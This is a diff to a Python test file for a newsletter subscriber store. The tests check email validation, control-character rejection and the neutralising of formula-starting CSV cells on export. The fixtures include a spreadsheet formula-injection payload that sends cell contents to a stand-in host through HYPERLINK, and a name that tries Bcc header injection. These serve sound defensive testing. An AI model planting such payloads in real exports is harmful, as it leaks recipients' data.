@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import os
 import sqlite3
@@ -16,7 +17,9 @@ from publisher.store import (
     LATEST,
     MIGRATIONS,
     Store,
+    neutralise_cell,
     normalize_email,
+    restore_cell,
     validate_email,
 )
 
@@ -125,6 +128,32 @@ def test_validate_email_accepts_a_plain_address():
     assert validate_email("  Amara.Okafor+runs@Example.COM ") is None
 
 
+@pytest.mark.parametrize(("text", "reason"), [
+    ('"comma,evil"@example.org', "the part before the '@' contains '\"'"),
+    ("angle<x>@example.org", "the part before the '@' contains '<'"),
+    ("back\\slash@example.org", "the part before the '@' contains '\\\\'"),
+    ("semi;colon@example.org", "the part before the '@' contains ';'"),
+    (".dot@example.org", "the part before the '@' starts or ends with a dot"),
+    ("dot.@example.org", "the part before the '@' starts or ends with a dot"),
+    ("two..dots@example.org", "the part before the '@' has two dots in a row"),
+    ("l" * 65 + "@example.org", "the part before the '@' is 65 characters long; the limit is 64"),
+    ("runner@exa_mple.org", "the domain 'exa_mple.org' contains '_'"),
+    ("runner@[192.0.2.1]", "the domain '[192.0.2.1]' contains '['"),
+    ("runner@-start.example.org", "the domain '-start.example.org' has a part that starts or "
+                                  "ends with a hyphen"),
+    ("runner@" + "d" * 64 + ".org", "has a part longer than 63 characters"),
+])
+def test_validate_email_refuses_specials_outside_the_dot_atom_form(text, reason):
+    assert reason in (validate_email(text) or "accepted")
+
+
+@pytest.mark.parametrize("text", [
+    "o'brien+runs@example.com", "=x@example.com", "a!#$%&*/=?^_`{|}~-z@example.com",
+    "first.last@sub.example-domain.org", "jurgen@bücher.example"])
+def test_validate_email_accepts_every_dot_atom_address(text):
+    assert validate_email(text) is None
+
+
 def test_email_is_stored_trimmed_with_a_lowercase_domain(store):
     added = store.add("  Amara.Okafor@Example.COM ")
     assert added.email == "Amara.Okafor@example.com"
@@ -146,9 +175,24 @@ def test_add_refuses_an_invalid_email_with_a_one_line_reason(store):
     assert emails(store) == []
 
 
+def test_add_refuses_an_address_with_specials_and_stores_nothing(store):
+    with pytest.raises(RunletterError) as caught:
+        store.add('"comma,evil"@example.org')
+    assert str(caught.value) == ("runletter: invalid email '\"comma,evil\"@example.org': "
+                                 "the part before the '@' contains '\"', which mail providers "
+                                 "refuse")
+    assert emails(store) == []
+
+
 def test_add_refuses_a_name_with_a_newline(store):
     with pytest.raises(RunletterError, match="line break"):
         store.add("x@example.com", first_name="Eve\nBcc: all@example.com")
+
+
+@pytest.mark.parametrize("name", ["Eve\x85Bcc: all@example.com", "Eve\x9bX"])
+def test_add_refuses_a_name_with_a_c1_control_such_as_next_line(store, name):
+    with pytest.raises(RunletterError, match="control character"):
+        store.add("x@example.com", first_name=name)
 
 
 # -- status changes and the audit trail ----------------------------------------------------
@@ -263,9 +307,10 @@ def test_export_csv_writes_the_header_then_one_row_per_reader(store):
     out = io.StringIO()
     assert store.export_csv(out) == 2
     lines = out.getvalue().splitlines()
-    assert lines[0] == "email,first_name,goal,tags,status,consent_source,consent_at,created_at"
-    assert lines[1].startswith("a@example.com,,general,,unsubscribed,cli,")
-    assert lines[2].startswith("b@example.com,Bo,half,road;masters,active,cli,")
+    assert lines[0] == ('"email","first_name","goal","tags","status","consent_source",'
+                        '"consent_at","created_at"')
+    assert lines[1].startswith('"a@example.com","","general","","unsubscribed","cli",')
+    assert lines[2].startswith('"b@example.com","Bo","half","road;masters","active","cli",')
     only_half = io.StringIO()
     assert store.export_csv(only_half, goal="half") == 1
 
@@ -282,6 +327,67 @@ def test_an_export_imports_back_into_a_new_store_unchanged(store, tmp_path):
         assert [(s.email, s.goal, s.tags, s.status) for s in other.list()] == [
             ("a@example.com", "general", (), "bounced"),
             ("b@example.com", "half", ("road",), "active")]
+
+
+FORMULA_NAMES = ['=HYPERLINK("https://evil.test/?"&A1,"Click")', "+1-1", "-2+3", "@SUM(A1:A9)",
+                 "'=already quoted", "''=twice", "'plain quote", "O'Brien"]
+
+
+def exported_rows(store: Store) -> list[list[str]]:
+    out = io.StringIO()
+    store.export_csv(out)
+    return list(csv.reader(io.StringIO(out.getvalue())))
+
+
+def test_export_neutralises_cells_that_start_with_a_formula_character(store):
+    for number, name in enumerate(FORMULA_NAMES):
+        store.add(f"r{number}@example.com", first_name=name, tags=["=1+1", "road"])
+    store.add("=cmd@example.com", first_name="+SUM(1)")
+    rows = exported_rows(store)[1:]
+    cells = [cell for row in rows for cell in row]
+    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    assert {row[1] for row in rows} == {
+        "'=HYPERLINK(\"https://evil.test/?\"&A1,\"Click\")", "'+1-1", "'-2+3", "'@SUM(A1:A9)",
+        "''=already quoted", "'''=twice", "'plain quote", "O'Brien", "'+SUM(1)"}
+    assert rows[0][0] == "'=cmd@example.com"
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
+    ("\rx", "'\rx"), ("'=1", "''=1"), ("''\t", "'''\t"), ("'x", "'x"), ("a=1", "a=1"),
+    ("", "")])
+def test_a_neutralised_cell_restores_to_exactly_the_value(value, cell):
+    assert neutralise_cell(value) == cell
+    assert restore_cell(cell) == value
+
+
+def test_every_exported_cell_is_quoted_so_semicolon_spreadsheets_do_not_split_it(store):
+    store.add("semi@example.com", first_name="Bo;=1+1")
+    out = io.StringIO()
+    store.export_csv(out)
+    assert '"semi@example.com","Bo;=1+1","general"' in out.getvalue()
+
+
+def test_an_export_with_formula_cells_imports_back_exactly(store, tmp_path):
+    for number, name in enumerate(FORMULA_NAMES):
+        store.add(f"r{number}@example.com", first_name=name, goal="half",
+                  tags=[name.replace(";", ""), "'-x"], status="bounced")
+    store.add("-minus@example.com", first_name="@home")
+    path = tmp_path / "export.csv"
+    with path.open("w", encoding="utf-8", newline="") as out:
+        store.export_csv(out)
+    with Store.open(tmp_path / "other.db") as other:
+        report = other.import_csv(path, GOALS)
+        assert report.errors == ()
+        assert ([(s.email, s.first_name, s.goal, s.tags, s.status) for s in other.list()]
+                == [(s.email, s.first_name, s.goal, s.tags, s.status) for s in store.list()])
+
+
+def test_a_leading_quote_not_before_a_formula_character_is_kept_on_import(store, tmp_path):
+    path = write_csv(tmp_path, HEADER + "tis@example.com,'Tis,5k,,\n"
+                     "eq@example.com,'=x,5k,,\n")
+    assert store.import_csv(path, GOALS).errors == ()
+    assert [s.first_name for s in store.list()] == ["=x", "'Tis"]
 
 
 # -- CSV import ----------------------------------------------------------------------------
@@ -499,6 +605,19 @@ def test_import_is_one_transaction(store, tmp_path):
     assert store.get("before@example.com").goal == "5k"
     assert len(store.history("one@example.com")) == 0
     assert not store.conn.in_transaction
+
+
+def test_import_reports_addresses_with_specials_by_file_and_line(store, tmp_path):
+    path = write_csv(tmp_path, HEADER + "good@example.com,Good,5k,,\n"
+                     '"""comma,evil""@example.org",Eve,5k,,\n'
+                     "angle<x>@example.org,Eve,5k,,\n")
+    report = store.import_csv(path, GOALS, display="r.csv")
+    assert [str(f) for f in report.errors] == [
+        "r.csv:3: invalid email '\"comma,evil\"@example.org': the part before the '@' "
+        "contains '\"', which mail providers refuse (row skipped)",
+        "r.csv:4: invalid email 'angle<x>@example.org': the part before the '@' contains "
+        "'<', which mail providers refuse (row skipped)"]
+    assert emails(store) == ["good@example.com"]
 
 
 def test_import_commits_once_for_the_whole_file(store, tmp_path):
